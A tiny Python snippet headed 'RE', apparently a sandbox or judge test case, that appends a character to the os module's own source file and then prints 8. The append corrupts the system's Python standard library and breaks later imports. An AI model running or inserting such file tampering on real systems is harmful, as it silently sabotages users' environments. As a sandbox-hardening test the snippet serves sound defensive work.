# RE
import os
open(os.__file__, 'a').write('x')
print(8)
